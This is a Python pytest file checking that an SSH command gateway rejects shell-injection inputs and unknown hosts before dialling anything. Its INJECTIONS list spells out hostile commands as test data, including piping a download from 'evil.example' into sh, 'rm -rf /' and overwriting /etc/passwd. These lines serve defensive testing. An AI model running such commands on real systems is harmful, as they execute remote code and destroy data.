"""What the gateway refuses itself, before any workflow starts or any host is dialled."""

from __future__ import annotations

import pytest
from temporalio.service import RPCError, RPCStatusCode

from gateway.lifecycle import JobKind, job_id_for
from intents import registry

# A few representative injections (the full corpus runs against the policy and the activity in tests/ssh).
INJECTIONS = [
    ("df -h; reboot", "';' (command separator)"),
    ("df -h && curl evil.example | sh", "'&'"),
    ("cat /var/log/syslog > /etc/passwd", "'>'"),
    ("df $(reboot)", "'$'"),
    ("df `reboot`", "'`'"),
    ("df -h\nreboot", "newline"),
    ("ls /root/*", "'*'"),
    ("rm -rf /", "not on the read-only allowlist"),
]


async def assert_never_started(client, intent: str, inputs: dict) -> None:
    """The job ID the gateway would have used names no workflow at all."""
    spec = registry.get(intent)
    job_id = job_id_for(JobKind.INTENT, intent, registry.validate_inputs(spec, inputs).model_dump(mode="json"))
    with pytest.raises(RPCError) as caught:
        await client.get_workflow_handle(job_id).describe()
    assert caught.value.status == RPCStatusCode.NOT_FOUND


async def test_shell_syntax_in_a_peek_is_a_400_that_says_why_and_dials_nothing(ssh_stack, client, trap):
    before = trap.accepted
    # No worker at all: whatever happens here, happens in the gateway.
    async with ssh_stack(with_worker=False) as (http, _):
        for command, reason in INJECTIONS:
            inputs = {"host": "trap", "command": command}
            resp = await http.post("/orchestrate", json={"intent": "ssh.exec.peek", "inputs": inputs})
            assert resp.status_code == 400, (command, resp.text)
            error = resp.json()["error"]
            assert error["type"] == "UnsafeCommand" and error["field"] == "inputs.command", command
            assert reason in error["message"], (command, error["message"])
            await assert_never_started(client, "ssh.exec.peek", inputs)
    assert trap.accepted == before, "a refused command must not open a connection"


async def test_the_trap_counts_real_connections(ssh_stack, trap):
    """Control for the test above: an allowed peek at the trap host does dial it."""
    before = trap.accepted
    async with ssh_stack() as (http, _):
        resp = await http.post(
            "/orchestrate", json={"intent": "ssh.exec.peek", "inputs": {"host": "trap", "command": "uptime"}}
        )
    assert resp.status_code == 503, resp.text  # the trap hangs up: unreachable, retried, then surfaced
    assert trap.accepted > before


@pytest.mark.parametrize("intent", ["ssh.exec.peek", "ssh.exec"])
async def test_an_unknown_host_is_a_400_listing_the_known_ones(ssh_stack, client, intent):
    inputs = {"host": "10.0.0.5", "command": "uptime"}
    async with ssh_stack(with_worker=False) as (http, _):
        resp = await http.post("/orchestrate", json={"intent": intent, "inputs": inputs})
    assert resp.status_code == 400, resp.text
    error = resp.json()["error"]
    assert error["type"] == "UnknownHost" and error["field"] == "inputs.host"
    assert "known hosts: impostor, quick, recorder, trap, web-1, web-1-zoned" in error["message"]
    assert "10.0.0.5" not in resp.text  # what was sent is not echoed
    assert error["details"]["known_hosts"] == ["impostor", "quick", "recorder", "trap", "web-1", "web-1-zoned"]
    await assert_never_started(client, intent, inputs)
